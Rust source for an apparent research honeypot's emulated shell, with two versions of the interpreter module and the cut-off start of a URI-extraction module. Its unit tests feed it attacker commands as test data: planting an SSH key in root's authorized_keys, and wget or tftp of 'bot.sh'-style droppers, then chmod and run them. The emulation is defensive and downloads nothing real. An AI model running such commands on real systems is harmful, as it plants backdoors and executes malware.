        ExecResult {
            rendered,
            commands_run,
            exited: self.exited,
        }
    }

    /// Execute one input line without materialising rendered output.
    pub fn execute_quiet(&mut self, line: &str) -> QuietExec {
        let commands_run = self.run_line_at_depth(line);
        QuietExec {
            commands_run,
            exited: self.exited,
        }
    }

    /// Execute a pre-parsed line without materialising rendered output — the
    /// simulator's prepared-script path (parse once per campaign variant,
    /// execute per session).
    pub fn execute_parsed_quiet(&mut self, buf: &LineBuf) -> QuietExec {
        let d = self.depth as usize;
        let mut ls = mem::take(&mut self.scratch.lines[d]);
        ls.rendered.clear();
        let commands_run = self.run_statements(buf, &mut ls);
        self.scratch.lines[d] = ls;
        QuietExec {
            commands_run,
            exited: self.exited,
        }
    }

    /// Parse and run `line` in the current depth's scratch slot, leaving the
    /// rendered output in that slot. Returns the simple-command count.
    fn run_line_at_depth(&mut self, line: &str) -> usize {
        let d = self.depth as usize;
        let mut ls = mem::take(&mut self.scratch.lines[d]);
        let mut buf = mem::take(&mut ls.buf);
        buf.parse(line);
        ls.rendered.clear();
        let commands_run = self.run_statements(&buf, &mut ls);
        ls.buf = buf;
        self.scratch.lines[d] = ls;
        commands_run
    }

    /// Run all statements of a parsed line. `ls` carries the pipeline
    /// buffers; it must not alias `self.scratch` (callers take it out of its
    /// slot first).
    fn run_statements(&mut self, buf: &LineBuf, ls: &mut LineScratch) -> usize {
        // Record URIs from every parsed command before executing anything:
        // even commands the emulation fails on — or that sit after an `exit`
        // on the same line — get their URIs recorded (paper, Section 4).
        for stmt in buf.statements() {
            for cmd in stmt.commands() {
                uri::record_from_argv(cmd.argv(), &mut self.events.text, &mut self.events.uris);
            }
        }
        let mut commands_run = 0;
        for stmt in buf.statements() {
            if self.exited {
                break;
            }
            let n = stmt.pipeline_len();
            commands_run += n;
            ls.stdin.clear();
            for (i, cmd) in stmt.commands().enumerate() {
                ls.stdout.clear();
                self.run_simple(cmd, ls);
                if i + 1 == n {
                    ls.rendered.push_str(&ls.stdout);
                } else {
                    // Thread stdout → next command's stdin.
                    mem::swap(&mut ls.stdin, &mut ls.stdout);
                }
            }
        }
        commands_run
    }

    /// Run a single simple command with redirections, appending its effective
    /// stdout to `ls.stdout` (cleared by the caller).
    fn run_simple(&mut self, cmd: CmdView<'_>, ls: &mut LineScratch) {
        let LineScratch {
            stdin,
            stdout,
            input_redirect,
            ..
        } = ls;

        if cmd.argv().is_empty() {
            // Bare redirection like `> file` truncates/creates the file.
            for r in cmd.redirs() {
                if let RedirView::Out(t) = r {
                    self.write_redirect(t, "", false);
                }
            }
            return;
        }

        // Resolve stdin: `< file` beats pipe input.
        let mut has_input_redirect = false;
        for r in cmd.redirs() {
            if let RedirView::In(src) = r {
                resolve_path_into(&self.cwd, src, &mut self.scratch.paths.a);
                if let Ok(content) = self.vfs.read_file(&self.scratch.paths.a) {
                    input_redirect.clear();
                    push_utf8_lossy(input_redirect, content);
                    has_input_redirect = true;
                }
            }
        }
        let effective_stdin: &str = if has_input_redirect {
            input_redirect
        } else {
            stdin
        };

        let known = self.dispatch(cmd.argv(), effective_stdin, stdout);

        // Record the command as typed, including redirections — Cowrie logs
        // the full input, and `echo key >> …/authorized_keys` is one of the
        // paper's headline commands (Table 3).
        let start = self.events.text.len() as u32;
        {
            let text = &mut self.events.text;
            let mut first = true;
            for w in cmd.argv().iter() {
                if !first {
                    text.push(' ');
                }
                first = false;
                text.push_str(w);
            }
            for r in cmd.redirs() {
                match r {
                    RedirView::Out(t) => {
                        text.push_str(" > ");
                        text.push_str(t);
                    }
                    RedirView::Append(t) => {
                        text.push_str(" >> ");
                        text.push_str(t);
                    }
                    RedirView::In(t) => {
                        text.push_str(" < ");
                        text.push_str(t);
                    }
                    RedirView::Err(t) => {
                        text.push_str(" 2>");
                        text.push_str(t);
                    }
                    RedirView::ErrToOut => text.push_str(" 2>&1"),
                }
            }
        }
        let end = self.events.text.len() as u32;
        self.events.commands.push((start, end, known));

        // Apply output redirections.
        let mut redirected = false;
        for r in cmd.redirs() {
            match r {
                RedirView::Out(t) => {
                    self.write_redirect(t, stdout, false);
                    redirected = true;
                }
                RedirView::Append(t) => {
                    self.write_redirect(t, stdout, true);
                    redirected = true;
                }
                RedirView::Err(t) if t != "/dev/null" => {
                    // bash creates/truncates the stderr target.
                    self.write_redirect(t, "", false);
                }
                _ => {}
            }
        }
        if redirected {
            stdout.clear();
        }
    }

    /// Write redirected output into the VFS and record the file event.
    fn write_redirect(&mut self, target: &str, content: &str, append: bool) {
        resolve_path_into(&self.cwd, target, &mut self.scratch.paths.a);
        let abs = &self.scratch.paths.a;
        if abs == "/dev/null" {
            return;
        }
        let existed = if append {
            self.vfs.append_file(abs, content.as_bytes())
        } else {
            self.vfs.write_file(abs, content.as_bytes(), 0o644)
        };
        if let Ok(existed) = existed {
            record_file_event(&self.vfs, &mut self.events.file_events, abs, existed);
        }
    }

    /// Dispatch to a builtin, a file execution, or "command not found";
    /// returns whether the command was "known". Output is appended to `out`.
    fn dispatch(&mut self, argv: Words<'_>, stdin: &str, out: &mut String) -> bool {
        let Some(name) = argv.first() else {
            return true;
        };

        // Prefix commands that wrap another command.
        if matches!(name, "nohup" | "sudo" | "exec") && argv.len() > 1 {
            return self.dispatch(argv.tail(1), stdin, out);
        }

        // Executing a path (./mal, /tmp/x): succeed quietly if it exists and
        // is executable — the behaviour droppers rely on.
        if name.contains('/') {
            resolve_path_into(&self.cwd, name, &mut self.scratch.paths.a);
            if !self.vfs.exists(&self.scratch.paths.a) {
                use std::fmt::Write as _;
                let _ = writeln!(out, "-bash: {name}: No such file or directory");
            }
            return true;
        }

        let handled = {
            let mut ctx = builtins::Ctx {
                vfs: &mut self.vfs,
                cwd: &mut self.cwd,
                profile: &self.profile,
                fetcher: self.fetcher.as_mut(),
                file_events: &mut self.events.file_events,
                downloads: &mut self.events.downloads,
                exited: &mut self.exited,
            };
            builtins::run(&mut ctx, argv, stdin, out, &mut self.scratch.paths)
        };
        if handled {
            return true;
        }

        // `sh -c CMD` re-enters the interpreter (bounded depth).
        if matches!(name, "sh" | "bash" | "ash") {
            if let Some(script) = flag_c_argument(argv) {
                if self.depth < 4 {
                    self.depth += 1;
                    let inner = self.depth as usize;
                    self.run_line_at_depth(script);
                    self.depth -= 1;
                    out.push_str(&self.scratch.lines[inner].rendered);
                    return true;
                }
            }
            // `sh` consuming a piped script: emulate silently.
            return true;
        }
        use std::fmt::Write as _;
        let _ = writeln!(out, "-bash: {name}: command not found");
        false
    }
}

impl Drop for ShellSession {
    fn drop(&mut self) {
        // Recycle the scratch set (with the cleared event arena stashed
        // inside) for the next session on this thread.
        let mut events = mem::take(&mut self.events);
        events.clear();
        let mut scratch = mem::take(&mut self.scratch);
        scratch.spare_events = events;
        scratch_to_pool(scratch);
    }
}

/// Record a file event by hashing the file's current content.
fn record_file_event(vfs: &Vfs, file_events: &mut Vec<FileEvent>, abs: &str, existed: bool) {
    let content = match vfs.read_file(abs) {
        Ok(c) => c,
        Err(_) => return,
    };
    file_events.push(FileEvent {
        path: abs.to_string(),
        op: if existed {
            FileOp::Modified
        } else {
            FileOp::Created
        },
        size: content.len(),
        sha256: Sha256::digest(content),
    });
}

/// Extract the argument of `-c` from an argv.
fn flag_c_argument<'a>(argv: Words<'a>) -> Option<&'a str> {
    let mut idx = 0;
    while let Some(w) = argv.get(idx) {
        if w == "-c" {
            return argv.get(idx + 1);
        }
        idx += 1;
    }
    None
}

#[cfg(test)]
mod tests {
    use super::*;

    fn session() -> ShellSession {
        ShellSession::new(SystemProfile::default(), Box::new(SyntheticFetcher))
    }

    #[test]
    fn uname_renders_profile() {
        let mut sh = session();
        let r = sh.execute("uname -a");
        assert!(r.rendered.contains("Linux svr04"));
        assert_eq!(r.commands_run, 1);
    }

    #[test]
    fn unknown_command_recorded() {
        let mut sh = session();
        let r = sh.execute("frobnicate --fast");
        assert!(r.rendered.contains("command not found"));
        let ev = sh.take_events();
        assert_eq!(ev.commands.len(), 1);
        assert!(!ev.commands[0].known);
    }

    #[test]
    fn redirect_creates_file_event() {
        let mut sh = session();
        sh.execute("echo hello > /tmp/x");
        let ev = sh.take_events();
        assert_eq!(ev.file_events.len(), 1);
        let fe = &ev.file_events[0];
        assert_eq!(fe.path, "/tmp/x");
        assert_eq!(fe.op, FileOp::Created);
        assert_eq!(fe.sha256, Sha256::digest(b"hello\n"));
    }

    #[test]
    fn append_to_existing_is_modification() {
        let mut sh = session();
        sh.execute("echo a > /tmp/k");
        sh.execute("echo b >> /tmp/k");
        let ev = sh.take_events();
        assert_eq!(ev.file_events.len(), 2);
        assert_eq!(ev.file_events[1].op, FileOp::Modified);
        assert_eq!(ev.file_events[1].sha256, Sha256::digest(b"a\nb\n"));
    }

    #[test]
    fn trojan_ssh_key_scenario() {
        // The paper's H1: echo an attacker key into authorized_keys.
        let mut sh = session();
        sh.execute(
            "mkdir -p /root/.ssh && echo 'ssh-rsa AAAAB3Nza...' >> /root/.ssh/authorized_keys",
        );
        let ev = sh.take_events();
        assert_eq!(ev.file_events.len(), 1);
        assert_eq!(ev.file_events[0].path, "/root/.ssh/authorized_keys");
        // Same command on a new session yields the same hash — campaign identity.
        let mut sh2 = session();
        sh2.execute(
            "mkdir -p /root/.ssh && echo 'ssh-rsa AAAAB3Nza...' >> /root/.ssh/authorized_keys",
        );
        let ev2 = sh2.take_events();
        assert_eq!(ev.file_events[0].sha256, ev2.file_events[0].sha256);
    }

    #[test]
    fn wget_downloads_and_hashes() {
        let mut sh = session();
        let r = sh.execute("cd /tmp; wget http://198.51.100.1/bot.sh");
        assert!(r.rendered.contains("bot.sh"));
        let ev = sh.take_events();
        assert_eq!(ev.uris, vec!["http://198.51.100.1/bot.sh".to_string()]);
        assert_eq!(ev.downloads.len(), 1);
        assert_eq!(ev.file_events.len(), 1);
        assert_eq!(ev.file_events[0].path, "/tmp/bot.sh");
    }

    #[test]
    fn null_fetcher_fails_cleanly() {
        let mut sh = ShellSession::new(SystemProfile::default(), Box::new(NullFetcher));
        let r = sh.execute("wget http://h/x");
        assert!(r.rendered.contains("failed") || r.rendered.contains("refused"));
        let ev = sh.take_events();
        assert!(ev.downloads.is_empty());
        assert!(ev.file_events.is_empty());
        assert_eq!(ev.uris.len(), 1, "URI recorded even when fetch fails");
    }

    #[test]
    fn pipeline_threads_stdout() {
        let mut sh = session();
        let r = sh.execute("cat /proc/cpuinfo | grep 'model name' | head -1");
        assert_eq!(r.rendered.lines().count(), 1);
        assert!(r.rendered.contains("model name"));
    }

    #[test]
    fn exit_ends_session() {
        let mut sh = session();
        let r = sh.execute("exit");
        assert!(r.exited);
        assert!(sh.exited());
        // Statements after exit in the same line are not executed.
        let mut sh2 = session();
        let r2 = sh2.execute("exit; uname");
        assert!(r2.exited);
        assert!(!r2.rendered.contains("Linux"));
    }

    #[test]
    fn sh_dash_c_reenters() {
        let mut sh = session();
        let r = sh.execute("sh -c 'echo nested > /tmp/n'");
        assert!(r.rendered.is_empty());
        let ev = sh.take_events();
        assert_eq!(ev.file_events.len(), 1);
        assert_eq!(ev.file_events[0].path, "/tmp/n");
    }

    #[test]
    fn executing_downloaded_file() {
        let mut sh = session();
        sh.execute("cd /tmp && wget http://h/m && chmod 777 m");
        let r = sh.execute("./m");
        assert_eq!(r.rendered, "");
        let r2 = sh.execute("./missing");
        assert!(r2.rendered.contains("No such file"));
    }

    #[test]
    fn stderr_to_devnull_makes_no_event() {
        let mut sh = session();
        sh.execute("wget http://h/x 2>/dev/null");
        let ev = sh.take_events();
        // only the download's own file event, no /dev/null event
        assert!(ev.file_events.iter().all(|e| e.path != "/dev/null"));
    }

    #[test]
    fn input_redirection_feeds_stdin() {
        let mut sh = session();
        sh.execute("echo 'root:newpw' > /tmp/cred");
        let r = sh.execute("grep root < /tmp/cred");
        assert_eq!(r.rendered, "root:newpw\n");
    }

    #[test]
    fn prompt_shape() {
        let sh = session();
        assert_eq!(sh.prompt(), "root@svr04:/root# ");
    }

    #[test]
    fn multi_file_session() {
        // A few sessions generate >10 file operations (paper: 282 sessions).
        let mut sh = session();
        for i in 0..12 {
            sh.execute(&format!("echo v{i} > /tmp/f{i}"));
        }
        let ev = sh.take_events();
        assert_eq!(ev.file_events.len(), 12);
        let mut hashes: Vec<_> = ev.file_events.iter().map(|e| e.sha256).collect();
        hashes.sort();
        hashes.dedup();
        assert_eq!(hashes.len(), 12, "distinct contents yield distinct hashes");
    }

    #[test]
    fn quiet_execution_matches_rendered_events() {
        let script = "cd /tmp; wget http://h/a.sh > log 2>&1; chmod 777 a.sh; ./a.sh; frob";
        let mut a = session();
        a.execute(script);
        let ea = a.take_events();
        let mut b = session();
        let q = b.execute_quiet(script);
        let eb = b.take_events();
        assert_eq!(ea.commands, eb.commands);
        assert_eq!(ea.file_events, eb.file_events);
        assert_eq!(ea.uris, eb.uris);
        assert_eq!(ea.downloads, eb.downloads);
        assert_eq!(q.commands_run, 5);
    }

    #[test]
    fn parsed_quiet_matches_line_execution() {
        let script = "echo x > /a; cat /a | grep x; tftp -g -r b.sh 10.0.0.1";
        let mut buf = LineBuf::new();
        buf.parse(script);
        let mut a = session();
        a.execute(script);
        let ea = a.take_events();
        let mut b = session();
        let q = b.execute_parsed_quiet(&buf);
        let eb = b.take_events();
        assert_eq!(ea.commands, eb.commands);
        assert_eq!(ea.file_events, eb.file_events);
        assert_eq!(ea.uris, eb.uris);
        assert_eq!(ea.downloads, eb.downloads);
        assert!(!q.exited);
    }

    #[test]
    fn scratch_pool_reuse_is_invisible() {
        // Two sequential sessions (second reuses the first's scratch) must
        // behave identically to fresh ones.
        let out1 = {
            let mut sh = session();
            sh.execute("uname -a; echo hi > /tmp/h; cat /tmp/h")
                .rendered
        };
        let out2 = {
            let mut sh = session();
            sh.execute("uname -a; echo hi > /tmp/h; cat /tmp/h")
                .rendered
        };
        assert_eq!(out1, out2);
    }
}
