//! The shell interpreter: executes input lines against the virtual
//! filesystem, applies redirections and pipes, and records everything the
//! honeypot needs — commands (known/unknown), file events with SHA-256
//! hashes, URIs, and downloads.

use hf_hash::{Digest, Sha256};
use serde::{Deserialize, Serialize};

use crate::builtins::{self, CmdOutput};
use crate::lexer::{self, Redirection, SimpleCommand};
use crate::profile::SystemProfile;
use crate::uri;
use crate::vfs::{resolve_path, Vfs};

/// Supplies the bodies of "remote" resources for wget/curl/tftp/ftpget.
///
/// The simulator implements this with campaign-specific payloads so the same
/// URI always yields the same bytes (and therefore the same hash) — exactly
/// how real campaigns distribute identical droppers from many URLs.
/// (`Send` so live front-ends can hold sessions across task await points.)
pub trait RemoteFetcher: Send {
    /// Fetch the body behind a URI, or `None` for unreachable hosts.
    fn fetch(&mut self, uri: &str) -> Option<Vec<u8>>;
}

/// A fetcher for which every host is unreachable. Useful in tests and for the
/// live front-end's safe default (the honeypot must never actually download
/// attacker-controlled content in this reproduction).
pub struct NullFetcher;

impl RemoteFetcher for NullFetcher {
    fn fetch(&mut self, _uri: &str) -> Option<Vec<u8>> {
        None
    }
}

/// A fetcher that deterministically fabricates a body from the URI itself, so
/// the live front-end still produces stable hashes without network access.
pub struct SyntheticFetcher;

impl RemoteFetcher for SyntheticFetcher {
    fn fetch(&mut self, uri: &str) -> Option<Vec<u8>> {
        let mut body = b"\x7fELF<synthetic:".to_vec();
        body.extend_from_slice(uri.as_bytes());
        body.push(b'>');
        Some(body)
    }
}

/// Whether a file event created a new file or modified an existing one.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
pub enum FileOp {
    /// The path did not previously exist.
    Created,
    /// The path existed and its content changed.
    Modified,
}

/// A file creation/modification recorded during the session, with the hash of
/// the resulting content — the paper's unit of campaign identity.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct FileEvent {
    /// Absolute path inside the VFS.
    pub path: String,
    /// Created vs modified.
    pub op: FileOp,
    /// Size of the file after the operation.
    pub size: usize,
    /// SHA-256 of the file content after the operation.
    pub sha256: Digest,
}

/// One executed command (one simple command of a pipeline).
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct CommandRecord {
    /// The command as typed (argv re-joined).
    pub input: String,
    /// Whether the honeypot emulated it ("known") or merely recorded it.
    pub known: bool,
}

/// Everything observable recorded over a session's shell phase.
#[derive(Debug, Clone, Default)]
pub struct SessionEvents {
    /// Commands in execution order.
    pub commands: Vec<CommandRecord>,
    /// File events in order.
    pub file_events: Vec<FileEvent>,
    /// URIs referenced by commands (deduplicated, sorted).
    pub uris: Vec<String>,
    /// Downloads that completed: (uri, hash of the body).
    pub downloads: Vec<(String, Digest)>,
}

/// Result of executing one input line.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ExecResult {
    /// Concatenated terminal output.
    pub rendered: String,
    /// Number of simple commands executed.
    pub commands_run: usize,
    /// Whether the client asked to exit (`exit` / `logout`).
    pub exited: bool,
}

/// An interactive shell session bound to one honeypot login.
pub struct ShellSession {
    vfs: Vfs,
    cwd: String,
    profile: SystemProfile,
    fetcher: Box<dyn RemoteFetcher>,
    events: SessionEvents,
    exited: bool,
    /// Recursion guard for `sh -c`.
    depth: u32,
}

impl ShellSession {
    /// Start a session on a freshly seeded filesystem.
    pub fn new(profile: SystemProfile, fetcher: Box<dyn RemoteFetcher>) -> Self {
        let vfs = Vfs::seeded(&profile);
        ShellSession {
            vfs,
            cwd: "/root".to_string(),
            profile,
            fetcher,
            events: SessionEvents::default(),
            exited: false,
            depth: 0,
        }
    }

    /// The shell prompt, as the honeypot would print it.
    pub fn prompt(&self) -> String {
        format!("root@{}:{}# ", self.profile.hostname, self.cwd)
    }

    /// Has the client exited?
    pub fn exited(&self) -> bool {
        self.exited
    }

    /// Current working directory.
    pub fn cwd(&self) -> &str {
        &self.cwd
    }

    /// Read-only view of the VFS (tests, forensics tooling).
    pub fn vfs(&self) -> &Vfs {
        &self.vfs
    }

    /// Take the accumulated events, resetting the log.
    pub fn take_events(&mut self) -> SessionEvents {
        let mut ev = std::mem::take(&mut self.events);
        ev.uris.sort();
        ev.uris.dedup();
        ev
    }

    /// Execute one input line (may contain multiple statements).
    pub fn execute(&mut self, line: &str) -> ExecResult {
        // Record URIs from the raw line first: even commands the emulation
        // fails on get their URIs recorded (paper, Section 4).
        for u in uri::extract_uris(line) {
            self.events.uris.push(u.0);
        }
        let statements = lexer::split_statements(line);
        let mut rendered = String::new();
        let mut commands_run = 0;
        for stmt in statements {
            if self.exited {
                break;
            }
            let out = self.run_pipeline(&stmt.pipeline);
            commands_run += stmt.pipeline.len();
            rendered.push_str(&out);
        }
        ExecResult {
            rendered,
            commands_run,
            exited: self.exited,
        }
    }

    /// Run one pipeline, threading stdout → stdin.
    fn run_pipeline(&mut self, pipeline: &[SimpleCommand]) -> String {
        let mut stdin = String::new();
        let mut rendered = String::new();
        let n = pipeline.len();
        for (i, cmd) in pipeline.iter().enumerate() {
            let last = i + 1 == n;
            let out = self.run_simple(cmd, &stdin);
            if last {
                rendered.push_str(&out);
                stdin.clear();
            } else {
                stdin = out;
            }
        }
        rendered
    }

    /// Run a single simple command with redirections.
    fn run_simple(&mut self, cmd: &SimpleCommand, piped_stdin: &str) -> String {
        if cmd.argv.is_empty() {
            // Bare redirection like `> file` truncates/creates the file.
            for r in &cmd.redirs {
                if let Redirection::Out(t) = r {
                    self.write_redirect(t, "", false);
                }
            }
            return String::new();
        }

        // Resolve stdin: `< file` beats pipe input.
        let mut stdin = piped_stdin.to_string();
        for r in &cmd.redirs {
            if let Redirection::In(src) = r {
                let abs = resolve_path(&self.cwd, src);
                if let Ok(content) = self.vfs.read_file(&abs) {
                    stdin = String::from_utf8_lossy(content).into_owned();
                }
            }
        }

        let output = self.dispatch(cmd, &stdin);
        let (stdout, known) = (output.stdout, output.known);

        // Record the command as typed, including redirections — Cowrie logs
        // the full input, and `echo key >> …/authorized_keys` is one of the
        // paper's headline commands (Table 3).
        let mut input = cmd.argv.join(" ");
        for r in &cmd.redirs {
            match r {
                Redirection::Out(t) => input.push_str(&format!(" > {t}")),
                Redirection::Append(t) => input.push_str(&format!(" >> {t}")),
                Redirection::In(t) => input.push_str(&format!(" < {t}")),
                Redirection::Err(t) => input.push_str(&format!(" 2>{t}")),
                Redirection::ErrToOut => input.push_str(" 2>&1"),
            }
        }
        self.events.commands.push(CommandRecord { input, known });

        // Apply output redirections.
        let mut redirected = false;
        for r in &cmd.redirs {
            match r {
                Redirection::Out(t) => {
                    self.write_redirect(t, &stdout, false);
                    redirected = true;
                }
                Redirection::Append(t) => {
                    self.write_redirect(t, &stdout, true);
                    redirected = true;
                }
                Redirection::Err(t) if t != "/dev/null" => {
                    // bash creates/truncates the stderr target.
                    self.write_redirect(t, "", false);
                }
                _ => {}
            }
        }
        if redirected {
            String::new()
        } else {
            stdout
        }
    }

    /// Write redirected output into the VFS and record the file event.
    fn write_redirect(&mut self, target: &str, content: &str, append: bool) {
        let abs = resolve_path(&self.cwd, target);
        if abs == "/dev/null" {
            return;
        }
        let existed = if append {
            self.vfs.append_file(&abs, content.as_bytes())
        } else {
            self.vfs.write_file(&abs, content.as_bytes(), 0o644)
        };
        if let Ok(existed) = existed {
            self.record_file_event(&abs, existed);
        }
    }

    /// Record a file event by hashing the file's current content.
    pub(crate) fn record_file_event(&mut self, abs: &str, existed: bool) {
        let content = match self.vfs.read_file(abs) {
            Ok(c) => c,
            Err(_) => return,
        };
        self.events.file_events.push(FileEvent {
            path: abs.to_string(),
            op: if existed {
                FileOp::Modified
            } else {
                FileOp::Created
            },
            size: content.len(),
            sha256: Sha256::digest(content),
        });
    }

    /// Dispatch to a builtin, a file execution, or "command not found".
    fn dispatch(&mut self, cmd: &SimpleCommand, stdin: &str) -> CmdOutput {
        let name = cmd.argv[0].as_str();

        // Prefix commands that wrap another command.
        if matches!(name, "nohup" | "sudo" | "exec") && cmd.argv.len() > 1 {
            let inner = SimpleCommand {
                argv: cmd.argv[1..].to_vec(),
                redirs: vec![],
            };
            return self.dispatch(&inner, stdin);
        }

        // Executing a path (./mal, /tmp/x): succeed quietly if it exists and
        // is executable — the behaviour droppers rely on.
        if name.contains('/') {
            let abs = resolve_path(&self.cwd, name);
            return if self.vfs.exists(&abs) {
                CmdOutput::known(String::new())
            } else {
                CmdOutput::known(format!("-bash: {name}: No such file or directory\n"))
            };
        }

        let mut ctx = builtins::Ctx {
            vfs: &mut self.vfs,
            cwd: &mut self.cwd,
            profile: &self.profile,
            fetcher: self.fetcher.as_mut(),
            file_events: &mut self.events.file_events,
            downloads: &mut self.events.downloads,
            exited: &mut self.exited,
        };
        match builtins::run(&mut ctx, &cmd.argv, stdin) {
            Some(out) => out,
            None => {
                // `sh -c CMD` re-enters the interpreter (bounded depth).
                if matches!(name, "sh" | "bash" | "ash") {
                    if let Some(script) = flag_c_argument(&cmd.argv) {
                        if self.depth < 4 {
                            self.depth += 1;
                            let res = self.execute(&script);
                            self.depth -= 1;
                            return CmdOutput::known(res.rendered);
                        }
                    }
                    // `sh` consuming a piped script: emulate silently.
                    return CmdOutput::known(String::new());
                }
                CmdOutput::unknown(format!("-bash: {name}: command not found\n"))
            }
        }
    }
}

/// Extract the argument of `-c` from an argv.
fn flag_c_argument(argv: &[String]) -> Option<String> {
    argv.windows(2).find(|w| w[0] == "-c").map(|w| w[1].clone())
}

#[cfg(test)]
mod tests {
    use super::*;

    fn session() -> ShellSession {
        ShellSession::new(SystemProfile::default(), Box::new(SyntheticFetcher))
    }

    #[test]
    fn uname_renders_profile() {
        let mut sh = session();
        let r = sh.execute("uname -a");
        assert!(r.rendered.contains("Linux svr04"));
        assert_eq!(r.commands_run, 1);
    }

    #[test]
    fn unknown_command_recorded() {
        let mut sh = session();
        let r = sh.execute("frobnicate --fast");
        assert!(r.rendered.contains("command not found"));
        let ev = sh.take_events();
        assert_eq!(ev.commands.len(), 1);
        assert!(!ev.commands[0].known);
    }

    #[test]
    fn redirect_creates_file_event() {
        let mut sh = session();
        sh.execute("echo hello > /tmp/x");
        let ev = sh.take_events();
        assert_eq!(ev.file_events.len(), 1);
        let fe = &ev.file_events[0];
        assert_eq!(fe.path, "/tmp/x");
        assert_eq!(fe.op, FileOp::Created);
        assert_eq!(fe.sha256, Sha256::digest(b"hello\n"));
    }

    #[test]
    fn append_to_existing_is_modification() {
        let mut sh = session();
        sh.execute("echo a > /tmp/k");
        sh.execute("echo b >> /tmp/k");
        let ev = sh.take_events();
        assert_eq!(ev.file_events.len(), 2);
        assert_eq!(ev.file_events[1].op, FileOp::Modified);
        assert_eq!(ev.file_events[1].sha256, Sha256::digest(b"a\nb\n"));
    }

    #[test]
    fn trojan_ssh_key_scenario() {
        // The paper's H1: echo an attacker key into authorized_keys.
        let mut sh = session();
        sh.execute(
            "mkdir -p /root/.ssh && echo 'ssh-rsa AAAAB3Nza...' >> /root/.ssh/authorized_keys",
        );
        let ev = sh.take_events();
        assert_eq!(ev.file_events.len(), 1);
        assert_eq!(ev.file_events[0].path, "/root/.ssh/authorized_keys");
        // Same command on a new session yields the same hash — campaign identity.
        let mut sh2 = session();
        sh2.execute(
            "mkdir -p /root/.ssh && echo 'ssh-rsa AAAAB3Nza...' >> /root/.ssh/authorized_keys",
        );
        let ev2 = sh2.take_events();
        assert_eq!(ev.file_events[0].sha256, ev2.file_events[0].sha256);
    }

    #[test]
    fn wget_downloads_and_hashes() {
        let mut sh = session();
        let r = sh.execute("cd /tmp; wget http://198.51.100.1/bot.sh");
        assert!(r.rendered.contains("bot.sh"));
        let ev = sh.take_events();
        assert_eq!(ev.uris, vec!["http://198.51.100.1/bot.sh".to_string()]);
        assert_eq!(ev.downloads.len(), 1);
        assert_eq!(ev.file_events.len(), 1);
        assert_eq!(ev.file_events[0].path, "/tmp/bot.sh");
    }

    #[test]
    fn null_fetcher_fails_cleanly() {
        let mut sh = ShellSession::new(SystemProfile::default(), Box::new(NullFetcher));
        let r = sh.execute("wget http://h/x");
        assert!(r.rendered.contains("failed") || r.rendered.contains("refused"));
        let ev = sh.take_events();
        assert!(ev.downloads.is_empty());
        assert!(ev.file_events.is_empty());
        assert_eq!(ev.uris.len(), 1, "URI recorded even when fetch fails");
    }

    #[test]
    fn pipeline_threads_stdout() {
        let mut sh = session();
        let r = sh.execute("cat /proc/cpuinfo | grep 'model name' | head -1");
        assert_eq!(r.rendered.lines().count(), 1);
        assert!(r.rendered.contains("model name"));
    }

    #[test]
    fn exit_ends_session() {
        let mut sh = session();
        let r = sh.execute("exit");
        assert!(r.exited);
        assert!(sh.exited());
        // Statements after exit in the same line are not executed.
        let mut sh2 = session();
        let r2 = sh2.execute("exit; uname");
        assert!(r2.exited);
        assert!(!r2.rendered.contains("Linux"));
    }

    #[test]
    fn sh_dash_c_reenters() {
        let mut sh = session();
        let r = sh.execute("sh -c 'echo nested > /tmp/n'");
        assert!(r.rendered.is_empty());
        let ev = sh.take_events();
        assert_eq!(ev.file_events.len(), 1);
        assert_eq!(ev.file_events[0].path, "/tmp/n");
    }

    #[test]
    fn executing_downloaded_file() {
        let mut sh = session();
        sh.execute("cd /tmp && wget http://h/m && chmod 777 m");
        let r = sh.execute("./m");
        assert_eq!(r.rendered, "");
        let r2 = sh.execute("./missing");
        assert!(r2.rendered.contains("No such file"));
    }

    #[test]
    fn stderr_to_devnull_makes_no_event() {
        let mut sh = session();
        sh.execute("wget http://h/x 2>/dev/null");
        let ev = sh.take_events();
        // only the download's own file event, no /dev/null event
        assert!(ev.file_events.iter().all(|e| e.path != "/dev/null"));
    }

    #[test]
    fn input_redirection_feeds_stdin() {
        let mut sh = session();
        sh.execute("echo 'root:newpw' > /tmp/cred");
        let r = sh.execute("grep root < /tmp/cred");
        assert_eq!(r.rendered, "root:newpw\n");
    }

    #[test]
    fn prompt_shape() {
        let sh = session();
        assert_eq!(sh.prompt(), "root@svr04:/root# ");
    }

    #[test]
    fn multi_file_session() {
        // A few sessions generate >10 file operations (paper: 282 sessions).
        let mut sh = session();
        for i in 0..12 {
            sh.execute(&format!("echo v{i} > /tmp/f{i}"));
        }
        let ev = sh.take_events();
        assert_eq!(ev.file_events.len(), 12);
        let mut hashes: Vec<_> = ev.file_events.iter().map(|e| e.sha256).collect();
        hashes.sort();
        hashes.dedup();
        assert_eq!(hashes.len(), 12, "distinct contents yield distinct hashes");
    }
}
