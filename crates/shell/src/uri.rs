//! URI extraction from command lines.
//!
//! The paper (Section 4): "If a command includes a URI (this includes anything
//! retrieved from a remote target, including retrievals via FTP, HTTP, SCP,
//! etc.), the URI is recorded as well." We recognize two shapes:
//!
//! 1. explicit scheme URIs (`http://`, `https://`, `ftp://`, `tftp://`),
//! 2. tool-specific remote references without a scheme — `tftp -g HOST`,
//!    `ftpget HOST file`, `scp user@host:path` — normalized to a
//!    pseudo-scheme form so downstream analysis sees one format.

/// A URI recorded from a command, normalized.
#[derive(Debug, Clone, PartialEq, Eq, Hash, PartialOrd, Ord)]
pub struct RecordedUri(pub String);

impl std::fmt::Display for RecordedUri {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.write_str(&self.0)
    }
}

const SCHEMES: &[&str] = &["http://", "https://", "ftp://", "tftp://"];

/// Extract URIs from a single already-tokenized command.
pub fn extract_from_argv(argv: &[String]) -> Vec<RecordedUri> {
    let mut uris = Vec::new();
    let name = argv.first().map(|s| s.as_str()).unwrap_or("");

    // 1. Any token with an explicit scheme.
    for tok in argv {
        if SCHEMES.iter().any(|s| tok.starts_with(s)) {
            uris.push(RecordedUri(tok.clone()));
        }
    }

    // 2. Tool-specific forms.
    match name {
        "tftp" => {
            // busybox tftp: `tftp -g -r FILE HOST` or `tftp HOST -c get FILE`
            if let Some(host) = tftp_host(argv) {
                let file = flag_value(argv, "-r")
